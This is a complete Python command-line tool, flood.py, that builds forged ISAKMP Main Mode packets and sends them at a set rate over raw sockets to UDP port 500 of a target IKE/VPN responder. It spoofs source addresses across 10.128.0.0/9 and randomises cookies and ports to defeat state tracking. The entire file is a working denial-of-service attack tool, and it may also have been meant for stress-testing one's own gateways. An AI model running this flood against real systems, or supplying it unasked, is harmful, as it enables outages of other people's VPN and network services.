#!/usr/bin/env python3
"""flood.py TARGET --rate N --seconds S [--source ADDRESS] [--seed N]

Sends forged messages of Main Mode to port 500 of TARGET (IPv4), every one well formed, and with a source port and an initiator
cookie of its own. Without --source they are first messages, each from another address; with it all come from that one, every
first message has an offer of its own (in its lifetime), and every second message is a third one, with a responder cookie that
nobody gave. Needs CAP_NET_RAW and a route; ends early with SIGTERM. Prints how many it sent, and how many a second.
"""
import argparse
import random
import signal
import socket
import struct
import sys
import time


def attribute(kind, value):
    return struct.pack(">HH", 0x8000 | kind, value)


def message(payloads, first):
    """An ISAKMP message of Main Mode without cookies.                                                       RFC 2408 §3.1"""
    return struct.pack(">8s8sBBBBII", bytes(8), bytes(8), first, 0x10, 2, 0, 0, 28 + len(payloads)) + payloads


def first_message():
    """An SA payload that offers AES-128, SHA-1, pre-shared keys and group 14; the lifetime comes last.      RFC 2409 App. A"""
    transform = b"".join(attribute(k, v) for k, v in ((1, 7), (14, 128), (2, 2), (3, 1), (4, 14), (11, 1), (12, 3600)))
    transform = struct.pack(">BBHBBH", 0, 0, 8 + len(transform), 1, 1, 0) + transform
    proposal = struct.pack(">BBHBBBB", 0, 0, 8 + len(transform), 1, 1, 0, 1) + transform
    return message(struct.pack(">BBHII", 0, 0, 12 + len(proposal), 1, 1) + proposal, first=1)


def third_message():
    """A public value of group 14 and a nonce.                                                               RFC 2409 §5.4"""
    public, nonce = bytes(range(1, 255)) + bytes(2), bytes(20)
    payloads = struct.pack(">BBH", 10, 0, 4 + len(public)) + public + struct.pack(">BBH", 0, 0, 4 + len(nonce)) + nonce
    return message(payloads, first=4)


def packet(body, source, target):
    udp = struct.pack(">HHHH", 0, 500, 8 + len(body), 0) + body  # without a checksum: RFC 768 has it optional over IPv4
    return bytearray(
        struct.pack(
            ">BBHHHBBH4s4s", 0x45, 0, 20 + len(udp), 0, 0, 64, 17, 0, socket.inet_aton(source), socket.inet_aton(target)
        )
        + udp
    )


def main():
    p = argparse.ArgumentParser(usage=__doc__)
    p.add_argument("target")
    p.add_argument("--rate", type=int, required=True)
    p.add_argument("--seconds", type=float, required=True)
    p.add_argument("--source")
    p.add_argument("--seed", type=int, default=1)
    how = p.parse_args()
    signal.signal(signal.SIGTERM, lambda *_: sys.exit(0))
    sender = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
    to, source = (how.target, 0), how.source or "0.0.0.0"
    first, third = packet(first_message(), source, how.target), packet(third_message(), source, how.target)
    chance = random.Random(how.seed)
    cookie = chance.getrandbits(63) | 1
    put = struct.pack_into
    begun, sent = time.monotonic(), 0
    print("ready", flush=True)
    try:
        while (elapsed := time.monotonic() - begun) < how.seconds:
            due = min(int(elapsed * how.rate) - sent, 256)
            if due <= 0:
                time.sleep(0.0005)
                continue
            for _ in range(due):
                sent += 1
                forged = first
                if not how.source:
                    put(">I", forged, 12, 0x0A800000 | (sent * 2654435761 & 0x7FFFFF))  # 10.128.0.0/9, each once in 8 million
                elif sent % 2:
                    put(">H", forged, len(forged) - 2, 1 + sent // 2 % 65535)
                else:
                    forged = third
                    put(">Q", forged, 36, (cookie + sent * 0xD1342543DE82EF95) & 0xFFFFFFFFFFFFFFFF)
                put(">H", forged, 20, 5000 + sent % 60000)
                put(">Q", forged, 28, (cookie + sent * 0x9E3779B97F4A7C15) & 0xFFFFFFFFFFFFFFFF)
                try:
                    sender.sendto(forged, to)
                except OSError:
                    pass  # the queue of the device is full
    finally:
        print(f"{sent} sent, {sent / max(time.monotonic() - begun, 1e-9):.0f} a second", flush=True)


if __name__ == "__main__":
    main()
